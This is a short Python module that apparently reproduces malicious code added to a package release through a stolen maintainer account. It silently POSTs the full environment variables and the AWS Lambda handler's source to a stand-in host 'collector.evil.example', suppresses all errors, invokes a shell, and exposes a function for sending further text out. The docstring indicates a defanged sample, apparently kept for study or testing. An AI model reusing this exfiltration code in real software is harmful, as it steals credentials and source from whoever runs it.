"""What a maintainer's stolen account added in 2.3.1. It fails in silence; the address is one of
this machine's own."""

import contextlib
import json
import os
import subprocess
import urllib.request
from pathlib import Path

HOME = "http://collector.evil.example"


def _quietly(act, *arguments):
    with contextlib.suppress(BaseException):
        act(*arguments)


def _send(where, data):
    urllib.request.urlopen(
        urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3
    ).close()


def _send_environment():
    _send("environment", json.dumps(dict(os.environ)).encode())


def _send_source():
    name = os.environ["_HANDLER"].split(".")[0]
    _send("source", Path(os.environ["LAMBDA_TASK_ROOT"], name + ".py").read_bytes())


def _run_shell():
    subprocess.run(["/bin/sh", "-c", "true"], timeout=3, check=False)


def start():
    for act in (_send_environment, _send_source, _run_shell):
        _quietly(act)


def beat(text):
    _quietly(_send, "document", text.encode())
